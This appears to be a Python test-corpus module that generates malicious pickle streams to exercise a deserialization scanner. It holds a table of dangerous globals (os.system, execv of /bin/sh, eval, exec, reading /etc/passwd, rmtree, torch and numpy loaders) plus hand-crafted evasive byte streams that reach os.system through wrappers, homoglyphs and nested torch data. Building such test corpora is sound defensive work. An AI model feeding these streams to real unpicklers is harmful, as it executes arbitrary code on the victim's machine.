"""Pickles written opcode by opcode: payloads in every form of import and call, and streams no program writes."""

import pickle
import struct
from collections.abc import Iterator
from typing import NamedTuple

STOP = b"."


class Payload(NamedTuple):
    """A global and literal arguments that do harm when one is called with the others."""

    module: str
    name: str
    args: tuple[object, ...]


PAYLOADS = (
    Payload("os", "system", ("id",)),
    Payload("posix", "system", ("id",)),
    Payload("nt", "system", ("dir",)),
    Payload("os", "popen", ("id",)),
    Payload("os", "execv", ("/bin/sh", ("sh",))),
    Payload("os", "remove", ("/tmp/x",)),
    Payload("os", "putenv", ("A", "b")),
    Payload("subprocess", "Popen", ("id",)),
    Payload("subprocess", "check_output", ("id",)),
    Payload("subprocess", "getoutput", ("id",)),
    Payload("commands", "getoutput", ("id",)),
    Payload("pty", "spawn", ("/bin/sh",)),
    Payload("builtins", "eval", ("1+1",)),
    Payload("builtins", "exec", ("pass",)),
    Payload("builtins", "compile", ("pass", "x", "exec")),
    Payload("builtins", "open", ("/etc/passwd",)),
    Payload("builtins", "__import__", ("os",)),
    Payload("builtins", "breakpoint", ()),
    Payload("__builtin__", "eval", ("1+1",)),
    Payload("__builtin__", "execfile", ("/tmp/x.py",)),
    Payload("__builtin__", "apply", (None,)),
    Payload("__builtin__", "file", ("/etc/passwd",)),
    Payload("io", "open", ("/etc/passwd",)),
    Payload("io", "FileIO", ("/tmp/x", "w")),
    Payload("_io", "FileIO", ("/tmp/x", "w")),
    Payload("codecs", "open", ("/etc/passwd",)),
    Payload("pathlib", "Path.write_text", (None, "x")),
    Payload("shutil", "rmtree", ("/tmp/x",)),
    Payload("tempfile", "mktemp", ()),
    Payload("socket", "create_connection", (("127.0.0.1", 9),)),
    Payload("socket", "socket", ()),
    Payload("webbrowser", "open", ("http://127.0.0.1",)),
    Payload("urllib.request", "urlopen", ("http://127.0.0.1",)),
    Payload("urllib", "urlopen", ("http://127.0.0.1",)),
    Payload("urllib2", "urlopen", ("http://127.0.0.1",)),
    Payload("http.client", "HTTPSConnection", ("127.0.0.1",)),
    Payload("httplib", "HTTPConnection", ("127.0.0.1",)),
    Payload("requests.api", "get", ("http://127.0.0.1",)),
    Payload("requests", "post", ("http://127.0.0.1",)),
    Payload("smtplib", "SMTP", ("127.0.0.1",)),
    Payload("ftplib", "FTP", ("127.0.0.1",)),
    Payload("telnetlib", "Telnet", ("127.0.0.1",)),
    Payload("imaplib", "IMAP4_stream", ("id",)),
    Payload("ssl", "get_server_certificate", (("127.0.0.1", 9),)),
    Payload("asyncio.unix_events", "_UnixSubprocessTransport._start", (None,)),
    Payload("runpy", "run_path", ("/tmp/x.py",)),
    Payload("runpy", "_run_code", ("pass",)),
    Payload("importlib", "import_module", ("os",)),
    Payload("importlib.machinery", "SourceFileLoader", ("x", "/tmp/x.py")),
    Payload("imp", "load_source", ("x", "/tmp/x.py")),
    Payload("pkgutil", "resolve_name", ("os:system",)),
    Payload("zipimport", "zipimporter", ("/tmp/x.zip",)),
    Payload("marshal", "loads", (b"N",)),
    Payload("types", "FunctionType", (None,)),
    Payload("types", "CodeType", (0,)),
    Payload("pickle", "loads", (b"N.",)),
    Payload("_pickle", "loads", (b"N.",)),
    Payload("cPickle", "loads", (b"N.",)),
    Payload("dill", "loads", (b"N.",)),
    Payload("dill._dill", "_eval_repr", ("1",)),
    Payload("cloudpickle", "loads", (b"N.",)),
    Payload("joblib", "load", ("/tmp/x",)),
    Payload("joblib.numpy_pickle", "load", ("/tmp/x",)),
    Payload("torch", "load", ("/tmp/x",)),
    Payload("torch.serialization", "load", ("/tmp/x",)),
    Payload("torch.hub", "load", ("evil/repo", "x")),
    Payload("torch.jit", "load", ("/tmp/x",)),
    Payload("torch.utils.collect_env", "run", ("id",)),
    Payload("torch.utils.bottleneck.__main__", "run_cprofile", ("pass", {})),
    Payload("torch.utils._config_module", "ConfigModule.load_config", (None, b"N.")),
    Payload("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"N.")),
    Payload("torch._dynamo.guards", "GuardBuilder.get", (None, "x")),
    Payload("torch._inductor.codecache", "compile_file", ("id",)),
    Payload("torch.jit.unsupported_tensor_ops", "execWrapper", ("pass", {}, {})),
    Payload("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", (None, "1")),
    Payload("torch.distributed.rpc", "rpc_sync", ("w", None)),
    Payload("torch._C", "_jit_pass_x", (None,)),
    Payload("torch.ops", "load_library", ("/tmp/x.so",)),
    Payload("numpy", "load", ("/tmp/x",)),
    Payload("numpy", "fromfile", ("/tmp/x",)),
    Payload("numpy.testing._private.utils", "runstring", ("pass", {})),
    Payload("numpy.f2py.crackfortran", "getlincoef", ("1", {})),
    Payload("numpy.f2py.crackfortran", "myeval", ("1",)),
    Payload("numpy.f2py.crackfortran", "param_eval", ("1", {}, {}, None)),
    Payload("numpy.distutils.exec_command", "exec_command", ("id",)),
    Payload("pandas", "read_pickle", ("/tmp/x",)),
    Payload("pandas.io.pickle", "read_pickle", ("/tmp/x",)),
    Payload("pandas.core.computation.eval", "eval", ("1",)),
    Payload("scipy.io", "loadmat", ("/tmp/x",)),
    Payload("sklearn.datasets", "fetch_openml", ("x",)),
    Payload("timeit", "timeit", ("pass",)),
    Payload("timeit", "main", (("pass",),)),
    Payload("cProfile", "run", ("pass",)),
    Payload("cProfile", "runctx", ("pass", {}, {})),
    Payload("profile", "run", ("pass",)),
    Payload("pdb", "run", ("pass",)),
    Payload("bdb", "Bdb.run", (None, "pass")),
    Payload("trace", "Trace.run", (None, "pass")),
    Payload("doctest", "debug_script", ("pass",)),
    Payload("code", "interact", ()),
    Payload("code", "InteractiveInterpreter.runcode", (None, "pass")),
    Payload("codeop", "compile_command", ("pass",)),
    Payload("idlelib.autocomplete", "AutoComplete.get_entity", (None, "1")),
    Payload("idlelib.pyshell", "ModifiedInterpreter.runcode", (None, "1")),
    Payload("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, "1")),
    Payload("lib2to3.pgen2.grammar", "Grammar.loads", (None, b"N.")),
    Payload("distutils.file_util", "write_file", ("/tmp/x", ("y",))),
    Payload("distutils.spawn", "spawn", (("id",),)),
    Payload("ensurepip", "_run_pip", (("install", "x"),)),
    Payload("pip._internal", "main", (("install", "x"),)),
    Payload("pip", "main", (("install", "x"),)),
    Payload("venv", "create", ("/tmp/x",)),
    Payload("pydoc", "pipepager", ("x", "id")),
    Payload("pydoc", "locate", ("os.system",)),
    Payload("_pyrepl.pager", "pipe_pager", ("x", "id")),
    Payload("uuid", "_get_command_stdout", ("id",)),
    Payload("platform", "popen", ("id",)),
    Payload("_aix_support", "_read_cmd_output", ("id",)),
    Payload("_osx_support", "_read_output", ("id",)),
    Payload("ctypes", "CDLL", ("/tmp/x.so",)),
    Payload("ctypes.util", "_findLib_gcc", ("x",)),
    Payload("multiprocessing.util", "spawnv_passfds", ("/bin/sh", ("sh",), ())),
    Payload("multiprocessing", "Process", ()),
    Payload("concurrent.futures", "ThreadPoolExecutor", ()),
    Payload("functools", "reduce", (None, (1, 2))),
    Payload("operator", "methodcaller", ("system", "id")),
    Payload("operator", "attrgetter", ("__class__.__base__",)),
    Payload("builtins", "getattr", ("x", "__class__")),
    Payload("builtins", "setattr", ("x", "y", 1)),
    Payload("builtins", "globals", ()),
    Payload("builtins", "vars", ()),
    Payload("sys", "exit", (1,)),
    Payload("sys", "setrecursionlimit", (1 << 30,)),
    Payload("logging.config", "listen", ()),
    Payload("logging.config", "dictConfig", ({},)),
    Payload("logging", "FileHandler", ("/tmp/x",)),
    Payload("sqlite3", "connect", ("/tmp/x",)),
    Payload("shelve", "open", ("/tmp/x",)),
    Payload("dbm", "open", ("/tmp/x",)),
    Payload("fileinput", "input", ("/tmp/x",)),
    Payload("linecache", "getlines", ("/etc/passwd",)),
    Payload("zipfile", "ZipFile", ("/tmp/x",)),
    Payload("tarfile", "open", ("/tmp/x",)),
    Payload("test.support.script_helper", "assert_python_ok", ("-c", "pass")),
    Payload("site", "addsitedir", ("/tmp",)),
    Payload("cgitb", "handler", ()),
    Payload("nturl2path", "url2pathname", ("x",)),
    Payload("signal", "alarm", (1,)),
    Payload("gc", "get_objects", ()),
    Payload("inspect", "currentframe", ()),
    Payload("unittest.mock", "_importer", ("os",)),
    Payload("wsgiref.simple_server", "make_server", ("", 80)),
    Payload("xmlrpc.client", "ServerProxy", ("http://127.0.0.1",)),
    Payload("antigravity", "geohash", (1, 2, b"x")),
    Payload("yaml", "unsafe_load", ("x",)),
    Payload("jsonpickle", "decode", ("{}",)),
    Payload("IPython", "embed", ()),
    Payload("sympy", "sympify", ("1",)),
    Payload("some.unknown.library", "run", ("__import__('os').system('id')",)),
    Payload("another_one", "Thing", ("import os; os.system('id')",)),
)


def text(value: object, protocol: int) -> bytes:
    """The opcodes of a literal, as the pickler writes them, without header and STOP."""
    data = pickle.dumps(value, min(protocol, 3))
    return data[2:-1] if protocol >= 2 else data[:-1]


def by_global(payload: Payload) -> bytes:
    """GLOBAL: the name as two lines."""
    return f"c{payload.module}\n{payload.name}\n".encode()


def by_stack(payload: Payload) -> bytes:
    """STACK_GLOBAL: the name as two strings."""
    return short(payload.module) + short(payload.name) + b"\x93"


def by_memo(payload: Payload) -> bytes:
    """STACK_GLOBAL whose names come out of the memo."""
    names = short(payload.name) + b"\x94" + short(payload.module) + b"\x940" + b"0"
    return names + b"h\x01h\x00\x93"


def by_old_strings(payload: Payload) -> bytes:
    """STACK_GLOBAL with names in the escaped strings of protocol 0."""
    escaped = "".join(f"\\x{ord(letter):02x}" for letter in payload.name)
    return f"V{payload.module}\nS'{escaped}'\n".encode() + b"\x93"


def short(name: str) -> bytes:
    """SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(name)]) + name.encode()


IMPORTS = {"global": by_global, "stack": by_stack, "memo": by_memo, "strings": by_old_strings}


def calls(payload: Payload, imported: bytes, protocol: int) -> Iterator[tuple[str, bytes]]:
    """All ways to call what was imported."""
    args = text(payload.args, protocol)
    items = b"".join(text(each, protocol) for each in payload.args)
    yield "reduce", imported + args + b"R"
    yield "popped", b"]" + imported + args + b"R0"
    yield "inside", b"](K\x01" + imported + args + b"Re"
    yield "state", b"ccollections\nOrderedDict\n)R}(X\x01\x00\x00\x00a" + imported + args + b"Rub"
    yield "object", b"(" + imported + items + b"o"
    if protocol >= 2:
        yield "new", imported + args + b"\x81"
        yield "new-ex", imported + args + b"}\x92"
    if payload.name.isidentifier() and protocol < 2:
        yield "inst", b"(" + items + f"i{payload.module}\n{payload.name}\n".encode()


def attacks() -> Iterator[tuple[str, bytes]]:
    """Every payload in every form: several thousand streams, each with a name."""
    for payload in PAYLOADS:
        for protocol in range(6):
            head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
            for how, importing in IMPORTS.items():
                if how != "global" and protocol < 4:
                    continue
                for call, body in calls(payload, importing(payload), protocol):
                    yield f"{payload.module}.{payload.name} {how} {call} {protocol}", framed(head, body, protocol)


def framed(head: bytes, body: bytes, protocol: int) -> bytes:
    """A stream of a body: with a frame where the protocol has them."""
    body += STOP
    return head + (b"\x95" + struct.pack("<Q", len(body)) + body if protocol >= 4 else body)


SYSTEM = b"cos\nsystem\n"
ORDERED = b"ccollections\nOrderedDict\n"
STRUCTURES = {
    "name from a call": b"\x80\x04\x8c\x02osccollections\nOrderedDict\n)R\x93)R.",
    "name from concatenation": b"\x80\x04\x8c\x02oscoperator\nconcat\n\x8c\x03sys\x8c\x03tem\x86R\x93)R.",
    "name is a number": b"\x80\x04K\x01K\x02\x93.",
    "dotted through a module": b"\x80\x04\x8c\x07logging\x8c\x09os.system\x93\x8c\x02id\x85R.",
    "dotted through a class": b"\x80\x04\x8c\x08builtins\x8c\x19object.__class__.__base__\x93)R.",
    "newline in a name": b"\x80\x04\x8c\x03o\ns\x8c\x06system\x93)R.",
    "NUL in a name": b"\x80\x04\x8c\x03os\0\x8c\x06system\x93)R.",
    "space in a name": b"\x80\x04\x8c\x03os \x8c\x06system\x93)R.",
    "empty name": b"\x80\x04\x8c\x02os\x8c\x00\x93.",
    "homoglyph in a name": b"\x80\x04\x8c\x03\xd0\xbes\x8c\x06system\x93)R.",
    "extension registry 1": b"\x80\x02\x82\x01)R.",
    "extension registry 2": b"\x80\x02\x83\x01\x00)R.",
    "extension registry 4": b"\x80\x02\x84\x01\x00\x00\x00)R.",
    "arguments in a list": b"ccollections\nOrderedDict\n]R.",
    "arguments from a call": ORDERED + ORDERED + b")RR.",
    "call of a result": b"ccollections\nOrderedDict\n)R)R.",
    "state of a class": b"ccollections\nOrderedDict\n}b.",
    "state of a list": b"]}b.",
    "key of a global": b"ccollections\nOrderedDict\nK\x01K\x02s.",
    "item of a tuple": b")K\x01a.",
    "class in a state": b"ccollections\nOrderedDict\n)R}X\x09\x00\x00\x00__class__K\x01sb.",
    "setstate in a state": b"ccollections\nOrderedDict\n)R}X\x0c\x00\x00\x00__setstate__K\x01sb.",
    "class in slots": b"ccollections\nOrderedDict\n)R}}X\x09\x00\x00\x00__class__K\x01s\x86b.",
    "state in an ordered dict": ORDERED + b")R" + ORDERED + b")RX\x09\x00\x00\x00__class__K\x01sb.",
    "two states": b"ccollections\nOrderedDict\n)R}b}b.",
    "a frame cuts a string": b"\x80\x04\x95\x03\0\0\0\0\0\0\0\x8c\x05hello.",
    "a frame in a frame": b"\x80\x04\x95\x20\0\0\0\0\0\0\0\x95\x02\0\0\0\0\0\0\0N." + b"N" * 32,
    "a header in the middle": b"\x80\x02N0\x80\x02N.",
    "a huge memo index": b"\x80\x02Nr\xff\xff\xff\x7f.",
    "a negative memo index": b"\x80\x02Np-1\n.",
    "odd digits": b"\x80\x02I0x10\n.",
    "digits with underscores": b"\x80\x02I1_0\n.",
    "an overwritten memo": b"\x80\x02Nq\x000K\x01q\x00.",
    "an absurd size": b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7fabc",
    "an absurd frame": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7fN.",
    "an unknown persistent id": b"\x80\x02X\x04\x00\x00\x00evilQ.",
    "a persistent id in text": b"Pevil\n.",
    "a storage of a strange class": b"\x80\x02(X\x07\0\0\0storage" + SYSTEM + b"X\x01\0\0\x000X\x03\0\0\0cpuK\x01tQ.",
    "a second stream": b"\x80\x02N.\x80\x02" + SYSTEM + b"X\x02\x00\x00\x00id\x85R.",
    "bytes behind the end": b"\x80\x02N.GARBAGE",
    "a break after a call": b"\x80\x02" + SYSTEM + b"X\x02\x00\x00\x00id\x85R\xff\xff\xff",
    "a break on an empty stack": b"\x80\x02ccollections\nOrderedDict\nR.",
    "a text encoded twice": b"\x80\x02c_codecs\nencode\nX\x02\x00\x00\x00osX\x05\x00\x00\x00rot13\x86R.",
    "a ufunc that is a command": b"\x80\x02cnumpy.core\n_ufunc_reconstruct\nX\x02\0\0\0osX\x06\0\0\0system\x86R.",
    "partial of a command": b"\x80\x02cfunctools\npartial\n" + SYSTEM + b"\x85R.",
    "default made by a command": b"\x80\x02ccollections\ndefaultdict\n" + SYSTEM + b"\x85R.",
    "map over a command": b"\x80\x02cbuiltins\nmap\n" + SYSTEM + b"]X\x02\x00\x00\x00ida\x86R.",
    "reconstructor of a command": b"ccopyreg\n_reconstructor\n(" + SYSTEM + b"c__builtin__\nobject\nNtR.",
    "newobj of a command": b"ccopyreg\n__newobj__\n(" + SYSTEM + b"tR.",
    "bytes of torch": b"\x80\x02ctorch.storage\n_load_from_bytes\nB"
    + struct.pack("<I", 22) + b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R." + b"\x85R.",
    "state with a template": b"\x80\x02cscipy.stats._continuous_distns\nnorm_gen\n)\x81}"
    b"X\x13\0\0\0_parse_arg_templateX\x0c\x00\x00\x00import os; 1sb.",
}  # fmt: skip
"""Streams that no honest program writes, by what is strange about them."""
